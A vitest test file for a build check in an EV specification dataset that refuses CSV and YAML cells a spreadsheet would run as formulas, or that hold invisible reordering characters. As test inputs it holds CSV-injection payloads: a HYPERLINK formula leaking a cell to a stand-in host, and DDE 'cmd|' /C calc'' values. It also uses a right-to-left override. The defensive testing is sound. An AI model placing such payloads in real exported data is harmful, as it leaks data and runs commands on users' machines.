// The "plain-text" check (build/checks/plain-text.ts, run by the readers while each file is read): a cell a spreadsheet
// would run as a formula, or one holding a character that reorders or splits the text, is refused where it stands, in
// a CSV file and a YAML file alike (issue 38); a number may still begin with -.
import { describe, expect, it } from 'vitest';
import { plainText } from '../../build/checks/plain-text.ts';
import { loadTables } from '../../build/data/load.ts';
import { plainTextProblem } from '../../build/data/plain-text.ts';
import { formatProblem } from '../../build/data/problems.ts';
import { copyFixture, editData } from '../helpers/fixture.ts';
import { cellColumn } from '../helpers/rows.ts';

const VOLT_A = 'volt-a-400-2024,Fixture,Volt A,400,2024,60,fixture-spec,400,fixture-spec,150,';
const VOLT_B =
  'volt-b-800-2024,Fixture,Volt B,800,2024,77,fixture-spec,800,fixture-spec,230,fixture-spec,,,11,fixture-spec,3,' +
  'fixture-spec,,,V2L V2G,,fixture-spec,boost unknown';
const TITLE = 'title: Fixture specification sheet';
/** Where the Volt A row's brand and family cells start (the brand edited or not: it stands before the family). */
const BRAND = cellColumn('vehicles', VOLT_A, 'brand');
const FAMILY = cellColumn('vehicles', VOLT_A, 'family');

/** The problems of the mini fixture with one file edited, as the build prints them. */
function problemsAfter(file: string, edit: (text: string) => string): string[] {
  const root = copyFixture();
  editData(root, file, edit);
  return loadTables(root).problems.map(formatProblem);
}

describe('plain-text', () => {
  it('is registered as an error, run while the files are read', () => {
    expect(plainText).toMatchObject({ name: 'plain-text', severity: 'error' });
  });

  it.each([
    ['=', '"=HYPERLINK(""http://example.invalid/?leak=""&A1,""Click me"")"'],
    ['+', '+Fixture'],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ])('refuses a CSV text cell beginning with %s at its row and column', (lead, brand) => {
    expect(problemsAfter('vehicles.csv', (t) => t.replace(VOLT_A, VOLT_A.replace('Fixture', brand)))).toEqual([
      `data/vehicles.csv:2:${BRAND}: [plain-text] brand: begins with "${lead}", which a spreadsheet reads as a formula; reword it (only a number may begin with + or -)`,
    ]);
  });

  it('refuses a source title beginning with = at its line and column in YAML', () => {
    expect(problemsAfter('sources.yaml', (t) => t.replace(TITLE, 'title: "=1+1"'))).toEqual([
      'data/sources.yaml:4:10: [plain-text] title: begins with "=", which a spreadsheet reads as a formula; reword it (only a number may begin with + or -)',
    ]);
  });

  it.each([
    ['a right-to-left override', 'Kia \u202eEV6', 'U+202E at character 5'],
    ['a first-strong isolate', 'Kia\u2068 EV6', 'U+2068 at character 4'],
    ['a zero-width space', 'Kia\u200b', 'U+200B at character 4'],
    ['a right-to-left mark', '\u200fKia', 'U+200F at character 1'],
    ['a byte-order mark', 'Ki\ufeffa', 'U+FEFF at character 3'],
  ])('refuses %s anywhere in a cell', (_what, family, where) => {
    expect(problemsAfter('vehicles.csv', (t) => t.replace(VOLT_A, VOLT_A.replace('Volt A', family)))).toEqual([
      `data/vehicles.csv:2:${FAMILY}: [plain-text] family: holds the invisible character ${where}; remove it (it reorders or splits the text)`,
    ]);
  });

  it('refuses an invisible character in a YAML value, and a note in the last column', () => {
    expect(problemsAfter('sources.yaml', (t) => t.replace(TITLE, 'title: "Fixture\\u202Esheet"'))).toEqual([
      'data/sources.yaml:4:10: [plain-text] title: holds the invisible character U+202E at character 8; remove it (it reorders or splits the text)',
    ]);
    const NOTE = cellColumn('vehicles', VOLT_B, 'note');
    expect(problemsAfter('vehicles.csv', (t) => t.replace(',boost unknown\n', ',@boost\n'))).toEqual([
      `data/vehicles.csv:3:${NOTE}: [plain-text] note: begins with "@", which a spreadsheet reads as a formula; reword it (only a number may begin with + or -)`,
    ]);
  });

  it('passes numbers, text with these characters inside it, and the characters of other scripts', () => {
    for (const text of [
      '-3',
      '+5',
      '-0',
      '77.4',
      '2024',
      'e-208',
      'Mercedes-Benz EQS 450+',
      'a = b',
      'name@example.org',
      'Citroën ë-C4',
      'الكهربائية',
      '电动汽车',
      '',
    ])
      expect(plainTextProblem(text), text).toBeNull();
    for (const text of ['-', '- note', '-3x', ' =1', '\t=1'])
      expect(plainTextProblem(text), JSON.stringify(text)).not.toBeNull();
  });

  it('does not report a control character twice: the schema check refuses it first', () => {
    expect(problemsAfter('vehicles.csv', (t) => t.replace(VOLT_A, VOLT_A.replace('Fixture', '\tFixture')))).toEqual([
      `data/vehicles.csv:2:${BRAND}: [schema] brand: holds the control character U+0009 at character 1; remove it (it is never data)`,
    ]);
  });
});
